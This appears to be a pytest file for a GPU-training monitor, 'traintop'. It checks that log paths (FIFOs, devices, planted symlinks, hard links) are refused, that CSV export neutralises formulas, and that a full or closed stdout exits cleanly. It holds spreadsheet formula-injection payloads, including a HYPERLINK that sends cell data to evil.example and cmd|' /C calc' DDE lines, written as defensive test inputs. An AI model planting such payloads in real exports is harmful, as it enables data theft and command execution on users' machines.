"""What traintop writes, as an attacker sees it (docs/SECURITY.md, "The job's log" and "Outputs"):
`run --log` at a FIFO, a device, a planted symlink or an existing log; CSV cells a spreadsheet
would run; a standard output that is full or closed. Each test reproduces a break of the landed code."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

import pytest

from tests import test_hostile_captures
from tests.test_hostile_captures import ATTACKER, VICTIM, _as_user, needs_root
from traintop.record.recording import RecordingWriter
from traintop.samples import Frame, GpuInfo, GpuSample, SessionInfo

PY = sys.executable
small_disk = test_hostile_captures.small_disk  # a fixture: a 16 MiB tmpfs


def _env(tmp_path) -> dict:
    e = dict(os.environ, TRAINTOP_PROBE_DIR=str(tmp_path / "probes"), TMPDIR=str(tmp_path),
             XDG_CONFIG_HOME=str(tmp_path / "config"))
    e.pop("XDG_RUNTIME_DIR", None)
    return e


def _run(tmp_path, *args, timeout=60):
    return subprocess.run([PY, "-m", "traintop", "run", "--no-ui", *args], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, timeout=timeout, env=_env(tmp_path))


def _one_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in stderr, stderr
    return lines[0]


# -- run --log ---------------------------------------------------------------------------------

def test_a_fifo_as_the_log_is_refused_before_the_job_starts(tmp_path):
    """A FIFO with no reader hung `traintop run` silently, forever."""
    fifo = tmp_path / "log"
    os.mkfifo(fifo)
    marker = tmp_path / "started"
    r = _run(tmp_path, "--log", str(fifo), "--", "touch", str(marker), timeout=20)  # a hang guard
    assert r.returncode == 2 and "FIFO" in _one_line(r.stderr) and not marker.exists()


def test_a_device_as_the_log_is_refused(tmp_path):
    marker = tmp_path / "started"
    r = _run(tmp_path, "--log", "/dev/full", "--", "touch", str(marker))
    assert r.returncode == 2 and "device" in _one_line(r.stderr) and not marker.exists()


def test_an_existing_log_is_appended_to_never_cut(tmp_path):
    """The user's own 141 MB log lost 127 MiB at the start of a run (the cut for a log over 64 MiB)."""
    log = tmp_path / "train.log"
    with open(log, "wb") as f:
        f.write(b"MINE-START\n")
        f.truncate(100 << 20)  # 100 MiB (sparse: cheap) the user already had
        f.seek(0, os.SEEK_END)
        f.write(b"MINE-END\n")
    before = os.path.getsize(log)
    r = _run(tmp_path, "--log", str(log), "--", "echo", "appended")
    assert r.returncode == 0, r.stderr
    assert "appended to, never cut" in r.stderr
    time.sleep(1.5)  # where a cut would come (the log's watcher looks every 0.5 s)
    assert os.path.getsize(log) == before + len("appended\n")
    with open(log, "rb") as f:
        assert f.read(11) == b"MINE-START\n"
        f.seek(before - 9)
        assert f.read() == b"MINE-END\nappended\n"


def test_a_log_of_another_user_or_with_another_name_is_refused(tmp_path):
    theirs = tmp_path / "theirs.log"
    theirs.write_text("theirs\n")
    os.chown(theirs, ATTACKER, ATTACKER) if os.geteuid() == 0 else None
    mine = tmp_path / "mine.log"
    mine.write_text("mine\n")
    os.link(mine, tmp_path / "other-name.log")
    marker = tmp_path / "started"
    if os.geteuid() == 0:
        r = _run(tmp_path, "--log", str(theirs), "--", "touch", str(marker))
        assert r.returncode == 2 and "belongs to another user" in _one_line(r.stderr)
    r = _run(tmp_path, "--log", str(tmp_path / "other-name.log"), "--", "touch", str(marker))
    assert r.returncode == 2 and "hard links" in _one_line(r.stderr)
    assert not marker.exists() and theirs.read_text() == "theirs\n" and mine.read_text() == "mine\n"


def _victim_runs_with_log(shared: str, link: str, target: str) -> dict:
    from traintop import cli

    err = os.path.join(shared, "victim-stderr")
    fd = os.open(err, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.dup2(fd, 2)
    os.close(fd)
    sys.stderr = open(2, "w", closefd=False, buffering=1)  # pytest's capture object is not fd 2
    os.environ.update(TRAINTOP_PROBE_DIR=os.path.join(shared, "victim", "probes"),
                      TMPDIR=os.path.join(shared, "victim"), XDG_CONFIG_HOME=os.path.join(shared, "victim", "cfg"))
    os.environ.pop("XDG_RUNTIME_DIR", None)
    size = os.path.getsize(target)
    marker = os.path.join(shared, "victim", "started")
    code = cli.main(["run", "--no-ui", "--interval", "0.2", "--log", link, "--", "/bin/sh", "-c", f"echo hi; touch {marker}"])
    for _ in range(30):  # where the log's watcher would cut (it looks every 0.5 s)
        if os.path.getsize(target) != size:
            break
        time.sleep(0.1)
    sys.stderr.flush()
    with open(err) as f:
        stderr = f.read()
    return {"code": code, "stderr": stderr, "size_before": size, "size_after": os.path.getsize(target),
            "started": os.path.exists(marker)}


@needs_root
def test_a_log_symlink_planted_by_another_user_is_refused():
    """Another user plants `log` -> the victim's 113 MB file in a shared directory; `traintop run
    --log` followed it and the cut truncated the target to 4 MB."""
    shared = tempfile.mkdtemp(prefix="tt-shared-")
    try:
        os.chmod(shared, 0o1777)
        victim = os.path.join(shared, "victim")
        os.mkdir(victim, 0o700)
        os.chown(victim, VICTIM, VICTIM)
        target = os.path.join(victim, "precious.dat")
        with open(target, "wb") as f:
            f.write(b"HEAD")
            f.truncate(100 << 20)  # over the cut's 64 MiB
        os.chown(target, VICTIM, VICTIM)
        link = os.path.join(shared, "log")
        os.symlink(target, link)
        os.lchown(link, ATTACKER, ATTACKER)
        got = _as_user(VICTIM, _victim_runs_with_log, shared, link, target, timeout=120)
        assert "error" not in got, got
        v = got["value"]
        assert v["code"] == 2 and "symbolic link" in _one_line(v["stderr"]), v
        assert v["size_after"] == v["size_before"] == 100 << 20 and not v["started"]
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# -- CSV cells ---------------------------------------------------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _hostile_recording(path: str) -> str:
    gpus = tuple(GpuInfo(index=i, name=name, uuid=f"@GPU-{i}", mig_profile="-1g.10gb" if i == 0 else None)
                 for i, name in enumerate(FORMULAS[:4]))
    info = SessionInfo(kind="live", interval=0.5, gpus=gpus, hostname=FORMULAS[0])
    w = RecordingWriter(path, info)
    t = time.time()
    for k in range(3):
        w.add(Frame(t=t + k * 0.5, gpus=tuple(GpuSample(index=g.index, util=50.0) for g in gpus)))
    w.close()
    return path


def test_csv_cells_from_recordings_cannot_run_in_a_spreadsheet(tmp_path, capsys):
    """`export --csv` wrote cells starting with =, +, - or @ from a recording's GPU and host names
    (formula injection). Such a cell starts with ' now; numbers stay numbers."""
    from traintop.cli import main

    rec = _hostile_recording(str(tmp_path / "x.ttrec"))
    assert main(["export", "--csv", rec]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 1 + 3 * 4
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = {row[3] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in names and "'+1+cmd|' /C calc'!A0" in names
    assert {row[1] for row in rows[1:]} == {"'" + FORMULAS[0]} and {row[4][:2] for row in rows[1:]} == {"'@"}


def test_a_cell_that_is_a_number_stays_one():
    from traintop.record.export import csv_cell

    for number in ("-1.5", "+2", "-0", "-.5", "-1e-3", 7, -1.5):
        assert csv_cell(number) == number
    for text in FORMULAS + ("-", "+", "-1.5.2", "-1 ", "-inf", "-nan"):
        assert csv_cell(text) == "'" + text
    for text in ("", "H100", "1-2", "a =1", "\u3000H100"):
        assert csv_cell(text) == text


def test_a_formula_after_spaces_or_in_fullwidth_is_neutralised_too():
    """" =1+1" ran in a spreadsheet whose CSV import trims spaces (LibreOffice's "Trim spaces"), and a
    CJK locale may take the fullwidth ＝ for =: both were written as they came."""
    from traintop.record.export import csv_cell

    for text in (" =HYPERLINK(\"http://evil.example\")", "  +1+1", "\u00a0@SUM(1)", "\u3000=1+1",
                 "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " \uff1d1"):
        assert csv_cell(text) == "'" + text, text


# -- a full or closed standard output --------------------------------------------------------------

def _commands(rec: str) -> list[list[str]]:
    return [["analyze", rec], ["analyze", "--json", rec], ["export", rec], ["export", "--csv", rec],
            ["snapshot", "--wait", "0.05"], ["snapshot", "--csv", "--wait", "0.05"], ["config"], ["doctor", "--json"],
            ["--help"], ["--version"], ["analyze", "--help"],
            ["record", "--simulate", "healthy", "--duration", "2", "--fast", "--quiet", "--jsonl", "-"]]


@pytest.fixture(scope="module")
def recording():
    d = tempfile.mkdtemp(prefix="tt-out-")
    from traintop.collectors.simulated import Simulator
    from traintop.watch.monitor import Monitor

    sim = Simulator("starved", gpus=2, seed=1, interval=0.5)
    path = os.path.join(d, "r.ttrec")
    m = Monitor(sim.info(), recorder=RecordingWriter(path, sim.info()))
    for _ in range(120):
        m.ingest(sim.next_frame())
    m.close()
    yield path
    shutil.rmtree(d, ignore_errors=True)


def _traintop(args, stdout, tmp_path):
    env = _env(tmp_path)
    return subprocess.run([PY, "-m", "traintop", *args], stdin=subprocess.DEVNULL, stdout=stdout,
                          stderr=subprocess.PIPE, text=True, timeout=120, env=env)


@pytest.mark.parametrize("k", range(12))
def test_a_full_standard_output_ends_every_command_in_one_line(k, recording, tmp_path):
    """Every command that prints (but `record --jsonl`) ended with a traceback on a full disk."""
    args = _commands(recording)[k]
    with open("/dev/full", "w") as full:
        r = _traintop(args, full, tmp_path)
    assert "Traceback" not in r.stderr, (args, r.stderr)
    assert r.returncode == 2, (args, r.returncode, r.stderr)
    last = r.stderr.strip().splitlines()[-1]
    assert "No space left on device" in last, (args, r.stderr)
    assert sum("No space left on device" in line for line in r.stderr.splitlines()) == 1


@pytest.mark.parametrize("k", range(12))
def test_a_closed_standard_output_ends_every_command_quietly_with_141(k, recording, tmp_path):
    args = _commands(recording)[k]
    r_fd, w_fd = os.pipe()
    os.close(r_fd)  # the reader went away before the first line
    try:
        r = _traintop(args, w_fd, tmp_path)
    finally:
        os.close(w_fd)
    assert "Traceback" not in r.stderr and "Broken pipe" not in r.stderr, (args, r.stderr)
    assert r.returncode == 141, (args, r.returncode, r.stderr)


def test_json_output_of_a_command_is_unchanged_by_the_guard(recording, capsys):
    """The guard on standard output passes everything through (analyze --json still parses)."""
    from traintop.cli import main

    assert main(["analyze", "--json", recording]) == 0
    assert json.loads(capsys.readouterr().out)["samples"] > 0


def test_export_to_a_file_on_a_full_disk_is_one_line(recording, small_disk, tmp_path):
    """`export -o FILE` on a full disk ended in a traceback (twice over: the write, then the close)."""
    fs = os.statvfs(small_disk)
    left = fs.f_bavail * fs.f_frsize - (64 << 10)  # all but 64 KiB taken
    fd = os.open(os.path.join(small_disk, "fill"), os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while left > 0:
            left -= os.write(fd, b"\0" * min(left, 1 << 20))
    finally:
        os.close(fd)
    r = _traintop(["export", recording, "-o", os.path.join(small_disk, "out.jsonl")], subprocess.DEVNULL, tmp_path)
    assert r.returncode == 2, r.stderr
    assert "writing" in _one_line(r.stderr) and "No space left on device" in r.stderr
